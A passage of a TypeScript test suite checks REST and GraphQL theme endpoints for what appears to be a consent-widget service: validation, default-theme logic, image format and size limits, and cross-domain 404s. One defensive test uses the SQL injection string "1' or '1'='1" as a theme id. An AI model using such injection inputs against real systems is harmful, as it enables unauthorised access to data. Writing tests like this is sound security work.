import { crc32, deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { THEME_COLORS, THEME_FLAGS, type Theme, themeDefaults } from '../../../src/features/themes/theme.contract.ts';
import { API, createApiKey, createDomain, type DomainPath, domainState, themePayload, unknownId } from '../../support/fixtures.ts';
import { useServiceWithDomain } from '../../support/service-with-domain.ts';

const { service, domain } = useServiceWithDomain();

// ── images, built byte by byte ─────────────────────────────────────────────

const KiB = 1024;
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A valid 1×1 RGBA PNG; with `size`, a private ancillary chunk pads it to exactly that many bytes. */
function png(size?: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(1, 0); // width
  header.writeUInt32BE(1, 4); // height
  header[8] = 8; // bit depth
  header[9] = 6; // colour type RGBA
  const parts = [PNG_SIGNATURE, pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(Buffer.from([0, 0xff, 0, 0, 0xff])))];
  const end = pngChunk('IEND', Buffer.alloc(0));
  if (size !== undefined) {
    const used = parts.reduce((sum, part) => sum + part.length, 0) + end.length + 12;
    parts.push(pngChunk('prVt', Buffer.alloc(size - used, 0x2a)));
  }
  const image = Buffer.concat([...parts, end]);
  if (size !== undefined && image.length !== size) throw new Error(`png(${size}) built ${image.length} bytes`);
  return image;
}

/** A JFIF-framed JPEG of exactly `size` bytes: SOI, APP0 "JFIF", comment segments as padding, EOI. */
function jpeg(size = 64): Buffer {
  const soi = Buffer.from([0xff, 0xd8]);
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
  const eoi = Buffer.from([0xff, 0xd9]);
  const parts = [soi, app0];
  let rest = size - soi.length - app0.length - eoi.length;
  while (rest > 0) {
    let segment = Math.min(rest, 4 + 0xfffd);
    if (rest - segment > 0 && rest - segment < 4) segment -= 4;
    const comment = Buffer.alloc(segment, 0x20);
    comment.writeUInt16BE(0xfffe, 0);
    comment.writeUInt16BE(segment - 2, 2);
    parts.push(comment);
    rest -= segment;
  }
  const image = Buffer.concat([...parts, eoi]);
  if (image.length !== size) throw new Error(`jpeg(${size}) built ${image.length} bytes`);
  return image;
}

const b64 = (bytes: Buffer) => bytes.toString('base64');
const PNG_B64 = b64(png());
const JPEG_B64 = b64(jpeg());
const GIF_B64 = b64(Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x3b])]));
const RANDOM_B64 = b64(Buffer.from([0x00, 0x13, 0x37, 0xc0, 0xff, 0xee, 0x42, 0x99, 0x10, 0x20, 0x30, 0x40]));

// ── helpers ────────────────────────────────────────────────────────────────

const themesUrl = (path: DomainPath) => `${path.base}/theme`;
const themeUrl = (path: DomainPath, id: string) => `${path.base}/theme/${id}`;

/** Everything a created theme holds that the payload did not set. */
const expectedTheme = (payload: Record<string, unknown>) => ({ id: expect.any(String), ...themeDefaults, ...payload });

async function createTheme(path: DomainPath, overrides: Record<string, unknown> = {}): Promise<Theme> {
  const answer = await service.rest<Theme>('POST', themesUrl(path), themePayload(overrides));
  expect(answer.status, answer.text).toBe(201);
  return answer.body;
}

async function readTheme(path: DomainPath, id: string): Promise<Theme> {
  const answer = await service.rest<Theme>('GET', themeUrl(path, id));
  expect(answer.status, answer.text).toBe(200);
  return answer.body;
}

/** id → default flag of every theme of the domain, in list order. */
async function defaults(path: DomainPath) {
  const answer = await service.rest<Theme[]>('GET', themesUrl(path));
  expect(answer.status).toBe(200);
  return answer.body.map((theme) => [theme.id, theme.default]);
}

const expectValidationProblem = (answer: { status: number; headers: Headers; body: any }) => {
  expect(answer.status).toBe(400);
  expect(answer.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  expect(answer.body).toMatchObject({ type: '/problems/validation', title: 'Bad Request', status: 400, detail: expect.any(String) });
};

const THEME_SELECTION = [
  'id name default',
  ...THEME_FLAGS,
  'widgetButtons widgetPosition widgetSwitchType settingsIconTarget logoImage settingsIconImage customCss customCssForIframeBlocker',
  ...THEME_COLORS,
].join(' ');

const GQL_SCOPE = 'clientId: $clientId, domainId: $domainId';
const scope = (path: DomainPath = domain) => ({ clientId: path.clientId, domainId: path.domainId });

const CREATE = `mutation($clientId: ID!, $domainId: ID!, $input: ThemeCreateInput!) {
  createTheme(${GQL_SCOPE}, input: $input) { ${THEME_SELECTION} } }`;
const UPDATE = `mutation($clientId: ID!, $domainId: ID!, $themeId: ID!, $input: ThemeUpdateInput!) {
  updateTheme(${GQL_SCOPE}, themeId: $themeId, input: $input) { ${THEME_SELECTION} } }`;
const DELETE = `mutation($clientId: ID!, $domainId: ID!, $themeId: ID!) { deleteTheme(${GQL_SCOPE}, themeId: $themeId) }`;
const READ_ALL = `query($clientId: ID!, $id: ID!) { domain(clientId: $clientId, id: $id) { themes { ${THEME_SELECTION} } } }`;
const READ_ONE = `query($clientId: ID!, $id: ID!, $themeId: ID!) {
  domain(clientId: $clientId, id: $id) { theme(id: $themeId) { ${THEME_SELECTION} } } }`;
const domainVars = (path: DomainPath = domain) => ({ clientId: path.clientId, id: path.domainId });

// ── REST ───────────────────────────────────────────────────────────────────

describe('themes over REST', () => {
  it('creates a theme (201) with every field: what was sent, the defaults for the rest', async () => {
    const payload = themePayload();
    const created = await service.rest('POST', themesUrl(domain), payload);
    expect(created.status).toBe(201);
    expect(created.headers.get('content-type')).toMatch(/^application\/json/);
    expect(created.body).toEqual(expectedTheme(payload));
    // The contract's own defaults, spelled out.
    expect(created.body).toMatchObject({
      default: false,
      settingsIconTarget: 'purpose',
      logoImage: null,
      settingsIconImage: null,
    });
    expect(created.body.id).toMatch(/\S/);
    expect(await readTheme(domain, created.body.id)).toEqual(created.body);
  });

  it('stores every optional field it is given', async () => {
    const payload = themePayload({
      name: 'Dark ünïcödé ✓',
      default: true,
      ...Object.fromEntries(THEME_FLAGS.map((flag) => [flag, !themeDefaults[flag]])),
      widgetButtons: ['cpanel', 'accept'],
      widgetPosition: 'bottomleft',
      widgetSwitchType: 'toggle',
      settingsIconTarget: 'main',
      logoImage: PNG_B64,
      settingsIconImage: JPEG_B64,
      customCss: '.ccm-root { font-family: serif; }',
      customCssForIframeBlocker: '',
      windowBackgroundColor: '#A0b1C2',
    });
    const created = await service.rest('POST', themesUrl(domain), payload);
    expect(created.status, created.text).toBe(201);
    expect(created.body).toEqual({ id: expect.any(String), ...payload });
    expect(await readTheme(domain, created.body.id)).toEqual(created.body);
  });

  it('accepts an empty name (§2: empty strings are allowed unless said otherwise)', async () => {
    const created = await service.rest('POST', themesUrl(domain), themePayload({ name: '' }));
    expect(created.status, created.text).toBe(201);
    expect(created.body.name).toBe('');
  });

  it('accepts an empty widgetButtons list and any order of its values', async () => {
    const none = await createTheme(domain, { widgetButtons: [] });
    expect(none.widgetButtons).toEqual([]);
    const reordered = await createTheme(domain, { widgetButtons: ['decline', 'cpanel', 'accept'] });
    expect((await readTheme(domain, reordered.id)).widgetButtons).toEqual(['decline', 'cpanel', 'accept']);
  });

  it.each(['top', 'center', 'bottom', 'bottomleft', 'bottomright'])('accepts widgetPosition %s', async (position) => {
    const created = await createTheme(domain, { widgetPosition: position });
    expect((await readTheme(domain, created.id)).widgetPosition).toBe(position);
  });

  it('ignores an id sent on create and generates its own', async () => {
    const created = await createTheme(domain, { id: unknownId() });
    expect(created.id).not.toBe(unknownId());
    expect((await service.rest('GET', themeUrl(domain, unknownId()))).status).toBe(404);
  });

  it('reads all themes (200) in creation order, and an empty list when there are none', async () => {
    const empty = await service.rest('GET', themesUrl(domain));
    expect(empty.status).toBe(200);
    expect(empty.body).toEqual([]);

    const names = ['first', 'second', 'third', 'fourth'];
    const created: Theme[] = [];
    for (const name of names) created.push(await createTheme(domain, { name }));
    const all = await service.rest<Theme[]>('GET', themesUrl(domain));
    expect(all.status).toBe(200);
    expect(all.body).toEqual(created);
    expect(all.body.map((theme) => theme.name)).toEqual(names);
  });

  it('reads one theme (200)', async () => {
    await createTheme(domain, { name: 'other' });
    const wanted = await createTheme(domain, { name: 'wanted', widgetPosition: 'center' });
    const one = await service.rest('GET', themeUrl(domain, wanted.id));
    expect(one.status).toBe(200);
    expect(one.body).toEqual(wanted);
    expect(one.body.name).toBe('wanted');
  });

  it('updates (200) only the fields a PUT carries', async () => {
    const created = await createTheme(domain, { logoImage: PNG_B64, customCss: 'a{}' });
    const updated = await service.rest('PUT', themeUrl(domain, created.id), {
      name: 'Renamed',
      widgetPosition: 'top',
      widgetBlocking: true,
      widgetButtons: ['accept'],
      buttonBorderColor: '#abcdef',
    });
    expect(updated.status).toBe(200);
    const expected = {
      ...created,
      name: 'Renamed',
      widgetPosition: 'top',
      widgetBlocking: true,
      widgetButtons: ['accept'],
      buttonBorderColor: '#abcdef',
    };
    expect(updated.body).toEqual(expected);
    expect(await readTheme(domain, created.id)).toEqual(expected);

    const unchanged = await service.rest('PUT', themeUrl(domain, created.id), {});
    expect(unchanged.status).toBe(200);
    expect(unchanged.body).toEqual(expected);
  });

  it('takes back what it sent: read, change one field, PUT the whole object (with its id) back', async () => {
    const created = await createTheme(domain, { settingsIconImage: JPEG_B64, widgetButtons: ['decline'] });
    const read = await readTheme(domain, created.id);
    const sent = { ...read, windowForegroundColor: '#010203' };
    const answer = await service.rest('PUT', themeUrl(domain, created.id), sent);
    expect(answer.status, answer.text).toBe(200);
    expect(answer.body).toEqual(sent);
    expect(await readTheme(domain, created.id)).toEqual(sent);
  });

  it('ignores a different id in the body of a PUT: the path names the theme', async () => {
    const target = await createTheme(domain, { name: 'target' });
    const bystander = await createTheme(domain, { name: 'bystander' });
    const answer = await service.rest('PUT', themeUrl(domain, target.id), { id: bystander.id, name: 'changed' });
    expect(answer.status, answer.text).toBe(200);
    expect(answer.body).toEqual({ ...target, name: 'changed' });
    expect(await readTheme(domain, bystander.id)).toEqual(bystander);
  });

  it('deletes (204, empty body); the theme is gone afterwards (404), the others stay', async () => {
    const doomed = await createTheme(domain, { name: 'doomed' });
    const kept = await createTheme(domain, { name: 'kept' });
    const deleted = await service.rest('DELETE', themeUrl(domain, doomed.id));
    expect(deleted.status).toBe(204);
    expect(deleted.text).toBe('');
    expect((await service.rest('GET', themeUrl(domain, doomed.id))).status).toBe(404);
    expect((await service.rest('PUT', themeUrl(domain, doomed.id), { name: 'x' })).status).toBe(404);
    expect((await service.rest('DELETE', themeUrl(domain, doomed.id))).status).toBe(404);
    expect((await service.rest('GET', themesUrl(domain))).body).toEqual([kept]);
  });

  it('answers 405 with Allow for a method the theme paths do not take', async () => {
    const created = await createTheme(domain);
    const one = await service.rest('PATCH', themeUrl(domain, created.id), { name: 'x' });
    expect(one.status).toBe(405);
    expect(one.headers.get('allow')?.split(/,\s*/).sort()).toEqual(['DELETE', 'GET', 'HEAD', 'PUT']);
    const all = await service.rest('DELETE', themesUrl(domain));
    expect(all.status).toBe(405);
    expect(all.headers.get('allow')?.split(/,\s*/).sort()).toEqual(['GET', 'HEAD', 'POST']);
    expect((await service.rest('GET', themesUrl(domain))).body).toEqual([created]);
  });
});

describe('the default theme over REST', () => {
  it('creating a default theme clears the flag on the others', async () => {
    const plain = await createTheme(domain, { name: 'plain' });
    expect(plain.default).toBe(false);
    const first = await createTheme(domain, { name: 'first', default: true });
    expect(first.default).toBe(true);
    expect(await defaults(domain)).toEqual([[plain.id, false], [first.id, true]]);

    const second = await createTheme(domain, { name: 'second', default: true });
    expect(await defaults(domain)).toEqual([[plain.id, false], [first.id, false], [second.id, true]]);

    // A new non-default theme leaves the default as it is.
    const third = await createTheme(domain, { name: 'third', default: false });
    expect(await defaults(domain)).toEqual([[plain.id, false], [first.id, false], [second.id, true], [third.id, false]]);
  });

  it('updating a theme to default clears the flag on the others; unsetting leaves none', async () => {
    const a = await createTheme(domain, { name: 'a', default: true });
    const b = await createTheme(domain, { name: 'b' });
    const c = await createTheme(domain, { name: 'c' });

    const promoted = await service.rest('PUT', themeUrl(domain, b.id), { default: true });
    expect(promoted.status).toBe(200);
    expect(promoted.body).toEqual({ ...b, default: true });
    expect(await defaults(domain)).toEqual([[a.id, false], [b.id, true], [c.id, false]]);

    // Sending default: true to the default theme keeps it the default.
    expect((await service.rest('PUT', themeUrl(domain, b.id), { default: true, name: 'b2' })).body.default).toBe(true);
    expect(await defaults(domain)).toEqual([[a.id, false], [b.id, true], [c.id, false]]);

    // Other updates do not touch the flag.
    await service.rest('PUT', themeUrl(domain, a.id), { name: 'a2' });
    expect(await defaults(domain)).toEqual([[a.id, false], [b.id, true], [c.id, false]]);

    expect((await service.rest('PUT', themeUrl(domain, b.id), { default: false })).body.default).toBe(false);
    expect(await defaults(domain)).toEqual([[a.id, false], [b.id, false], [c.id, false]]);
  });

  it("leaves another domain's default theme alone", async () => {
    const other = await createDomain(service, 'other.example');
    const theirs = await createTheme(other, { default: true });
    // A second domain of the same client, too.
    const siblingPath = await createDomain(service, 'sibling.example', { clientId: domain.clientId });
    const siblings = await createTheme(siblingPath, { default: true });

    const ours = await createTheme(domain, { default: true });
    const another = await createTheme(domain);
    await service.rest('PUT', themeUrl(domain, another.id), { default: true });
    expect(await defaults(domain)).toEqual([[ours.id, false], [another.id, true]]);
    expect(await defaults(other)).toEqual([[theirs.id, true]]);
    expect(await defaults(siblingPath)).toEqual([[siblings.id, true]]);
  });

  it('keeps a single default when defaults are created at the same time', async () => {
    const answers = await Promise.all(
      Array.from({ length: 4 }, (_, i) => service.rest('POST', themesUrl(domain), themePayload({ name: `t${i}`, default: true }))),
    );
    expect(answers.map((answer) => answer.status)).toEqual([201, 201, 201, 201]);
    const flags = (await defaults(domain)).map(([, isDefault]) => isDefault);
    expect(flags).toHaveLength(4);
    expect(flags.filter(Boolean)).toHaveLength(1);
  });
});

describe('theme validation over REST', () => {
  it.each(THEME_COLORS)('requires %s on create', async (colour) => {
    await createTheme(domain, { name: 'existing' });
    const before = await domainState(service, domain);
    const payload: Record<string, unknown> = themePayload();
    delete payload[colour];
    const answer = await service.rest('POST', themesUrl(domain), payload);
    expectValidationProblem(answer);
    expect(answer.body.errors).toEqual([{ path: `/${colour}`, message: expect.any(String) }]);
    expect(await domainState(service, domain)).toEqual(before);
  });

  it('lists every missing required field at once', async () => {
    const answer = await service.rest('POST', themesUrl(domain), {});
    expectValidationProblem(answer);
    const paths = answer.body.errors.map((error: { path: string }) => error.path).sort();
    expect(paths).toEqual(['/name', ...THEME_COLORS.map((colour) => `/${colour}`)].sort());
    expect(await domainState(service, domain)).toMatchObject({ themes: [] });
  });

  it.each([
    ['no name', { name: undefined }, '/name'],
    ['a name that is not a string', { name: 42 }, '/name'],
    ['a null name', { name: null }, '/name'],
    ['a colour name', { windowBackgroundColor: 'red' }, '/windowBackgroundColor'],
    ['a three-digit colour', { primaryButtonBackgroundColor: '#fff' }, '/primaryButtonBackgroundColor'],
    ['a colour with a non-hex digit', { windowLinkColor: '#12345g' }, '/windowLinkColor'],
    ['a colour without #', { buttonForegroundColor: '123456' }, '/buttonForegroundColor'],
    ['an eight-digit colour', { buttonBorderColor: '#12345678' }, '/buttonBorderColor'],
    ['an empty colour', { iframeBlockerBackgroundColor: '' }, '/iframeBlockerBackgroundColor'],
    ['a null colour', { declineButtonBorderColor: null }, '/declineButtonBorderColor'],
    ['a colour that is a number', { windowBorderColor: 0x123456 }, '/windowBorderColor'],
    ['an unknown widget button', { widgetButtons: ['accept', 'maybe'] }, '/widgetButtons/1'],
    ['a repeated widget button', { widgetButtons: ['accept', 'decline', 'accept'] }, '/widgetButtons'],
    ['widgetButtons as a string', { widgetButtons: 'accept' }, '/widgetButtons'],
    ['an unknown widget position', { widgetPosition: 'left' }, '/widgetPosition'],
    ['a widget position in capitals', { widgetPosition: 'TOP' }, '/widgetPosition'],
    ['an empty widget position', { widgetPosition: '' }, '/widgetPosition'],
    ['an unknown settings icon target', { settingsIconTarget: 'settings' }, '/settingsIconTarget'],
    ['a widgetSwitchType that is not a string', { widgetSwitchType: 5 }, '/widgetSwitchType'],
    ['a null customCss', { customCss: null }, '/customCss'],
    ['customCssForIframeBlocker as an array', { customCssForIframeBlocker: ['a{}'] }, '/customCssForIframeBlocker'],
    ['default as a string', { default: 'true' }, '/default'],
    ['an unknown property', { colour: 'red' }, '/colour'],
    ['a snake_case spelling of a field', { widget_position: 'top' }, '/widget_position'],
  ])('answers 400 for %s and lists the field, storing nothing', async (_, overrides, pointer) => {
    await createTheme(domain, { name: 'existing', default: true });
    const before = await domainState(service, domain);
    // default: true on a refused create must not clear the existing default either.
    const answer = await service.rest('POST', themesUrl(domain), themePayload({ default: true, ...overrides }));
    expectValidationProblem(answer);
    expect(answer.body.errors).toEqual([{ path: pointer, message: expect.any(String) }]);
    expect(await domainState(service, domain)).toEqual(before);
  });

  it('accepts colours in upper, lower and mixed case', async () => {
    const created = await createTheme(domain, { windowBackgroundColor: '#A0b1C2', windowLinkColor: '#ABCDEF', windowBorderColor: '#abcdef' });
    expect(await readTheme(domain, created.id)).toMatchObject({
      windowBackgroundColor: '#A0b1C2',
      windowLinkColor: '#ABCDEF',
      windowBorderColor: '#abcdef',
    });
  });

  it('answers 400 for every bool field of the wrong type, listing each one', async () => {
    const boolFields = ['default', ...THEME_FLAGS];
    const wrong = [1, 'true', null, 'false', {}, []];
    const overrides = Object.fromEntries(boolFields.map((field, i) => [field, wrong[i % wrong.length]]));
    const answer = await service.rest('POST', themesUrl(domain), themePayload(overrides));
    expectValidationProblem(answer);
    const paths = answer.body.errors.map((error: { path: string }) => error.path).sort();
    expect(paths).toEqual(boolFields.map((field) => `/${field}`).sort());
    expect(await domainState(service, domain)).toMatchObject({ themes: [] });
  });

  it.each(['red', '#fff', '#12345g', '123456', null])('refuses the colour %j in an update and changes nothing', async (value) => {
    const created = await createTheme(domain);
    const before = await domainState(service, domain);
    const answer = await service.rest('PUT', themeUrl(domain, created.id), { windowBackgroundColor: value, name: 'changed' });
    expectValidationProblem(answer);
    expect(answer.body.errors).toEqual([{ path: '/windowBackgroundColor', message: expect.any(String) }]);
    expect(await domainState(service, domain)).toEqual(before);
  });

  it.each([
    ['a null name', { name: null }, '/name'],
    ['a bad widget button', { widgetButtons: ['cpanel', 'cpanel'] }, '/widgetButtons'],
    ['a bad widget position', { widgetPosition: 'middle' }, '/widgetPosition'],
    ['a bad settings icon target', { settingsIconTarget: 'MAIN' }, '/settingsIconTarget'],
    ['a flag that is a string', { whitelabel: 'yes' }, '/whitelabel'],
    ['default that is a number', { default: 1 }, '/default'],
    ['an unknown property', { themeName: 'x' }, '/themeName'],
    ['a GIF logo', { logoImage: GIF_B64 }, '/logoImage'],
  ])('refuses %s in an update (400) and changes nothing', async (_, body, pointer) => {
    const created = await createTheme(domain, { default: false });
    const before = await domainState(service, domain);
    const answer = await service.rest('PUT', themeUrl(domain, created.id), { ...body, customCss: 'changed' });
    expectValidationProblem(answer);
    expect(answer.body.errors).toEqual([{ path: pointer, message: expect.any(String) }]);
    expect(await domainState(service, domain)).toEqual(before);
  });

  it('answers 400 for a body that is not JSON or not an object', async () => {
    const created = await createTheme(domain);
    const before = await domainState(service, domain);
    const notJson = await service.raw({
      method: 'POST',
      path: themesUrl(domain),
      body: '{"name": "broken",',
      headers: { 'content-type': 'application/json' },
    });
    expectValidationProblem(notJson);
    for (const body of [[themePayload()], 'a string', 42, null]) {
      expectValidationProblem(await service.rest('POST', themesUrl(domain), body));
      expectValidationProblem(await service.rest('PUT', themeUrl(domain, created.id), body));
    }
    expect(await domainState(service, domain)).toEqual(before);
  });
});

describe('theme images over REST', () => {
  it('stores a PNG logo and a JPEG settings icon as sent, and the other way round', async () => {
    const created = await createTheme(domain, { logoImage: PNG_B64, settingsIconImage: JPEG_B64 });
    expect(created).toMatchObject({ logoImage: PNG_B64, settingsIconImage: JPEG_B64 });
    expect(await readTheme(domain, created.id)).toMatchObject({ logoImage: PNG_B64, settingsIconImage: JPEG_B64 });

    const swapped = await service.rest('PUT', themeUrl(domain, created.id), { logoImage: JPEG_B64, settingsIconImage: PNG_B64 });
    expect(swapped.status, swapped.text).toBe(200);
    expect(await readTheme(domain, created.id)).toEqual({ ...created, logoImage: JPEG_B64, settingsIconImage: PNG_B64 });
  });

  it('removes an image when sent null and keeps the other one', async () => {
    const created = await createTheme(domain, { logoImage: PNG_B64, settingsIconImage: JPEG_B64 });
    const answer = await service.rest('PUT', themeUrl(domain, created.id), { logoImage: null });
    expect(answer.status, answer.text).toBe(200);
    expect(answer.body).toEqual({ ...created, logoImage: null });
    expect(await readTheme(domain, created.id)).toEqual({ ...created, logoImage: null });

    await service.rest('PUT', themeUrl(domain, created.id), { settingsIconImage: null });
    expect(await readTheme(domain, created.id)).toMatchObject({ logoImage: null, settingsIconImage: null });
  });

  it('accepts null images on create', async () => {
    const created = await createTheme(domain, { logoImage: null, settingsIconImage: null });
    expect(created).toMatchObject({ logoImage: null, settingsIconImage: null });
  });

  it.each([
    ['a GIF (GIF89a…)', GIF_B64],
    ['base64 of bytes that are no image', RANDOM_B64],
    ['a data: URI around a real PNG', `data:image/png;base64,${PNG_B64}`],
    ['text that is not base64', 'this is not base64!'],
    ['base64 with a character outside the alphabet', `${PNG_B64.slice(0, 8)}*${PNG_B64.slice(9)}`],
    ['an empty string', ''],
    ['base64 of a PNG signature cut short', b64(PNG_SIGNATURE.subarray(0, 6))],
    ['a number', 137],
  ])('refuses %s as logoImage and as settingsIconImage (400)', async (_, value) => {
    const created = await createTheme(domain, { logoImage: PNG_B64 });
    const before = await domainState(service, domain);
    for (const field of ['logoImage', 'settingsIconImage']) {
      const onCreate = await service.rest('POST', themesUrl(domain), themePayload({ [field]: value }));
      expectValidationProblem(onCreate);
      expect(onCreate.body.errors).toEqual([{ path: `/${field}`, message: expect.any(String) }]);
      const onUpdate = await service.rest('PUT', themeUrl(domain, created.id), { [field]: value });
      expectValidationProblem(onUpdate);
      expect(onUpdate.body.errors).toEqual([{ path: `/${field}`, message: expect.any(String) }]);
    }
    expect(await domainState(service, domain)).toEqual(before);
  });

  it('checks the content, not a claim: a GIF named like a PNG is refused, a JPEG is taken as the logo', async () => {
    const gifWithPngName = b64(Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.from('.png image/png', 'latin1')]));
    expectValidationProblem(await service.rest('POST', themesUrl(domain), themePayload({ logoImage: gifWithPngName })));
    // PNG magic bytes somewhere other than the start do not make a PNG.
    const pngInside = b64(Buffer.concat([Buffer.from([0]), png()]));
    expectValidationProblem(await service.rest('POST', themesUrl(domain), themePayload({ logoImage: pngInside })));
    const created = await createTheme(domain, { logoImage: JPEG_B64 });
    expect(created.logoImage).toBe(JPEG_B64);
  });

  it('takes a logo of exactly 512 KiB and refuses one byte more', async () => {
    const exact = b64(png(512 * KiB));
    const created = await createTheme(domain, { logoImage: exact });
    expect((await readTheme(domain, created.id)).logoImage).toBe(exact);

    const before = await domainState(service, domain);
    for (const tooBig of [b64(png(512 * KiB + 1)), b64(jpeg(512 * KiB + 1))]) {
      const onCreate = await service.rest('POST', themesUrl(domain), themePayload({ logoImage: tooBig }));
      expectValidationProblem(onCreate);
      expect(onCreate.body.errors).toEqual([{ path: '/logoImage', message: expect.any(String) }]);
      const onUpdate = await service.rest('PUT', themeUrl(domain, created.id), { logoImage: tooBig });
      expectValidationProblem(onUpdate);
      expect(onUpdate.body.errors).toEqual([{ path: '/logoImage', message: expect.any(String) }]);
    }
    expect(await domainState(service, domain)).toEqual(before);
  });

  it('takes a settings icon of exactly 64 KiB and refuses one byte more', async () => {
    const exact = b64(jpeg(64 * KiB));
    const created = await createTheme(domain, { settingsIconImage: exact });
    expect((await readTheme(domain, created.id)).settingsIconImage).toBe(exact);
    const exactPng = b64(png(64 * KiB));
    expect((await service.rest('PUT', themeUrl(domain, created.id), { settingsIconImage: exactPng })).status).toBe(200);

    const before = await domainState(service, domain);
    for (const tooBig of [b64(png(64 * KiB + 1)), b64(jpeg(64 * KiB + 1))]) {
      const onCreate = await service.rest('POST', themesUrl(domain), themePayload({ settingsIconImage: tooBig }));
      expectValidationProblem(onCreate);
      expect(onCreate.body.errors).toEqual([{ path: '/settingsIconImage', message: expect.any(String) }]);
      const onUpdate = await service.rest('PUT', themeUrl(domain, created.id), { settingsIconImage: tooBig });
      expectValidationProblem(onUpdate);
      expect(onUpdate.body.errors).toEqual([{ path: '/settingsIconImage', message: expect.any(String) }]);
    }
    expect(await domainState(service, domain)).toEqual(before);
    // A logo may be bigger than an icon.
    expect((await service.rest('PUT', themeUrl(domain, created.id), { logoImage: b64(png(64 * KiB + 1)) })).status).toBe(200);
  });
});

describe('themes not found over REST', () => {
  it('answers 404 for an unknown or malformed theme id', async () => {
    await createTheme(domain);
    const before = await domainState(service, domain);
    for (const id of [unknownId(), 'not-an-id', '12345', "1' or '1'='1"]) {
      const path = themeUrl(domain, encodeURIComponent(id));
      const read = await service.rest('GET', path);
      expect(read.status).toBe(404);
      expect(read.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(read.body).toMatchObject({ type: '/problems/not-found', status: 404 });
      expect((await service.rest('PUT', path, { name: 'x' })).status).toBe(404);
      expect((await service.rest('DELETE', path)).status).toBe(404);
    }
    expect(await domainState(service, domain)).toEqual(before);
  });

  it("never shows another domain's theme through the wrong path", async () => {
    const other = await createDomain(service, 'elsewhere.example');
    const theirs = await createTheme(other, { name: 'theirs', default: true });
    const siblingPath = await createDomain(service, 'sibling.example', { clientId: domain.clientId });
    const siblings = await createTheme(siblingPath, { name: 'siblings' });

    for (const [path, theme] of [[domain, theirs], [domain, siblings], [siblingPath, theirs]] as const) {
      expect((await service.rest('GET', themeUrl(path, theme.id))).status).toBe(404);
      expect((await service.rest('PUT', themeUrl(path, theme.id), { name: 'hijacked' })).status).toBe(404);
      expect((await service.rest('DELETE', themeUrl(path, theme.id))).status).toBe(404);
    }
    // The other client's domain under our client id, and our domain under theirs.
    const crossed = { ...other, base: `${API}/${domain.clientId}/domain/${other.domainId}` };
    expect((await service.rest('GET', themeUrl(crossed, theirs.id))).status).toBe(404);
    expect((await service.rest('GET', themesUrl(crossed))).status).toBe(404);
    expect((await service.rest('GET', `${API}/${other.clientId}/domain/${domain.domainId}/theme`)).status).toBe(404);

    expect((await service.rest('GET', themesUrl(domain))).body).toEqual([]);
    expect(await readTheme(other, theirs.id)).toEqual(theirs);
    expect(await readTheme(siblingPath, siblings.id)).toEqual(siblings);
  });

  it('answers 404 for an unknown domain or client, also when creating', async () => {
    const theme = await createTheme(domain);
    const noDomain = `${API}/${domain.clientId}/domain/${unknownId()}`;
    const noClient = `${API}/${unknownId()}/domain/${domain.domainId}`;
    for (const base of [noDomain, noClient, `${API}/not-an-id/domain/also-not`]) {
      const path = { ...domain, base };
      expect((await service.rest('POST', themesUrl(path), themePayload())).status).toBe(404);
      expect((await service.rest('GET', themesUrl(path))).status).toBe(404);
      expect((await service.rest('GET', themeUrl(path, theme.id))).status).toBe(404);
      expect((await service.rest('PUT', themeUrl(path, theme.id), { name: 'x' })).status).toBe(404);
      expect((await service.rest('DELETE', themeUrl(path, theme.id))).status).toBe(404);
    }
    const problem = (await service.rest('POST', `${noDomain}/theme`, themePayload())).body;
    expect(problem).toMatchObject({ type: '/problems/not-found', status: 404, detail: expect.stringContaining('domain') });
    expect((await service.rest('GET', themesUrl(domain))).body).toEqual([theme]);
  });

  it('is gone with its domain', async () => {
    const theme = await createTheme(domain);
    expect((await service.rest('DELETE', domain.base)).status).toBe(204);
    expect((await service.rest('GET', themeUrl(domain, theme.id))).status).toBe(404);
    expect((await service.rest('GET', themesUrl(domain))).status).toBe(404);
  });
});

// ── GraphQL ────────────────────────────────────────────────────────────────

describe('themes over GraphQL', () => {
  it('creates a theme with the defaults for what it leaves out; REST reads the same theme', async () => {
    const input = themePayload();
    const created = await service.graphql(CREATE, { ...scope(), input });
    expect(created.errors).toBeUndefined();
    expect(created.data.createTheme).toEqual(expectedTheme(input));
    expect(created.data.createTheme).toMatchObject({ default: false, settingsIconTarget: 'purpose', logoImage: null });
    expect(await readTheme(domain, created.data.createTheme.id)).toEqual(created.data.createTheme);
  });

  it('creates a theme with every field set; REST reads it back field by field', async () => {
    const input = themePayload({
      name: 'GraphQL',
      default: true,
      ...Object.fromEntries(THEME_FLAGS.map((flag) => [flag, !themeDefaults[flag]])),
      widgetButtons: ['decline'],
      widgetPosition: 'bottomright',
      widgetSwitchType: 'checkbox',
      settingsIconTarget: 'main',
      logoImage: PNG_B64,
      settingsIconImage: JPEG_B64,
      customCss: 'x{}',
      customCssForIframeBlocker: 'y{}',
    });
    const created = await service.graphql(CREATE, { ...scope(), input });
    expect(created.errors).toBeUndefined();
    expect(created.data.createTheme).toEqual({ id: expect.any(String), ...input });
    expect(await readTheme(domain, created.data.createTheme.id)).toEqual(created.data.createTheme);
  });

  it('reads through the Domain what REST wrote: themes in creation order, theme(id)', async () => {
    const first = await createTheme(domain, { name: 'first', logoImage: PNG_B64 });
    const second = await createTheme(domain, { name: 'second', default: true, widgetButtons: [] });
    const all = await service.graphql(READ_ALL, domainVars());
    expect(all.errors).toBeUndefined();
    expect(all.data.domain.themes).toEqual([first, second]);
    const one = await service.graphql(READ_ONE, { ...domainVars(), themeId: second.id });
